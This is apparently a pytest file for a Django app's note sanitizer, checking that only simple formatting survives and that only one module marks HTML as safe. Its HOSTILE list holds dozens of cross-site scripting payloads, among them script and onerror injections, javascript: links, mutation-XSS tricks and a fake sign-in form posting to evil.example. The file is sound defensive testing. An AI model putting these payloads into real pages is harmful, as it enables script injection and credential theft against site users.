"""Notes: simple formatting stays, nothing else does, and no other module may vouch for HTML."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings

from coverage_app.sanitizing import LINK_REL, TAGS, _sieve, note_html, style_text

# Each is an attempt to get an element, an attribute or an address of its own into the page.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<style>body{background:url(//evil.example)}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "![picture](https://evil.example/pixel.gif)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/accounts/sign-out/'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='position:fixed' target=_blank>x</a>",
    "<a href='https://ok.example' rel=opener ping=//evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "title\\" onmouseover=alert(1) \\"")',
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<p onmouseover=alert(1)>x</p>",
    "<p style='background:url(//evil.example)' class=masthead id=main>x</p>",
    "<p hx-get=/accounts/sign-out/ hx-trigger=load>x</p>",
    "<div data-hx-get=/x>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "</li></ol></section><h1>Another title</h1>",
    "`<img src=x onerror=alert(1)>`",
    "    <img src=x onerror=alert(1)>",
    "```\n<script>alert(1)</script>\n```",
    "\x00<img\x00 src=x onerror=alert(1)>",
    "<b " * 200 + ">",
    "<blockquote>" * 500 + "x",
]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_notes_bring_in_no_element_attribute_or_address(payload: str) -> None:
    for text in (payload, f"Before {payload} after", f"> * {payload}"):
        for tag, attributes in elements(note_html(text)):
            assert tag in TAGS
            assert set(attributes) <= {"href", "rel"}
            if attributes:
                assert tag == "a"
                assert attributes["rel"] == LINK_REL
                assert re.match(r"https?://|mailto:", attributes.get("href") or "https://")


@pytest.mark.parametrize("payload", HOSTILE)
def test_what_has_passed_the_sieve_passes_it_again_unchanged(payload: str) -> None:
    once = note_html(payload)
    assert _sieve(once) == once


def test_the_text_of_scripts_and_styles_goes_with_them() -> None:
    assert note_html("One <script>alert('two')</script><style>p{color:red}</style> three") == "<p>One  three</p>"


def test_simple_formatting_stays() -> None:
    html = note_html(
        "A *small* **point**, see [the report](https://example.org/a?b=1&c=2):\n\n1. one\n2. `two`\n\n> said"
    )
    assert "<em>small</em> <strong>point</strong>" in html
    assert f'<a href="https://example.org/a?b=1&amp;c=2" rel="{LINK_REL}">the report</a>' in html
    assert "<ol>\n<li>one</li>\n<li><code>two</code></li>\n</ol>" in html
    assert "<blockquote>\n<p>said</p>\n</blockquote>" in html


def test_what_is_not_formatting_is_shown_as_it_was_typed() -> None:
    assert note_html("5 < 6 & 7 > 2") == "<p>5 &lt; 6 &amp; 7 &gt; 2</p>"
    assert note_html("# not a heading") == "<p># not a heading</p>"


def test_only_this_module_vouches_for_html() -> None:
    """Every other text reaches the page through autoescaping."""
    vouching = re.compile(r"mark_safe|SafeString\(|SafeText|__html__|\|\s*safe\b|safeseq|autoescape")
    root = Path(settings.BASE_DIR)
    files = [
        *(root / "coverage_app").rglob("*.py"),
        *(root / "templates").rglob("*.html"),
        *(root / "templates").rglob("*.jinja"),
    ]
    assert len(files) > 20
    found = [str(f.relative_to(root)) for f in files if vouching.search(f.read_text(encoding="utf-8"))]
    assert found == ["coverage_app/sanitizing.py"]


def test_only_this_module_uses_the_sieves() -> None:
    root = Path(settings.BASE_DIR) / "coverage_app"
    importing = re.compile(r"^\s*(?:import|from) (?:bleach|nh3|markdown_it)\b", re.MULTILINE)
    found = [f.name for f in root.rglob("*.py") if importing.search(f.read_text(encoding="utf-8"))]
    assert found == ["sanitizing.py"]


def test_a_stylesheet_that_could_end_its_element_is_refused() -> None:
    with pytest.raises(ValueError, match="must not hold"):
        style_text("p { color: red } </style><script>")
